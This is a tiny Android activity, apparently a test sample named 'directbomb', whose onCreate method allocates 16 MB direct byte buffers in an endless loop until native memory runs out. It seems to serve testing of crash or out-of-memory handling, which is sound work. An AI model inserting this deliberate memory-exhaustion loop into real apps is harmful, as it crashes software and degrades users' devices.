package org.apkfarm.sample.directbomb;

import android.app.Activity;
import android.os.Bundle;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;

/** Does it when its first screen is made. */
public final class Main extends Activity {
    private static final List<ByteBuffer> KEPT = new ArrayList<>();

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        while (true) {
            KEPT.add(ByteBuffer.allocateDirect(1 << 24));
        }
    }
}
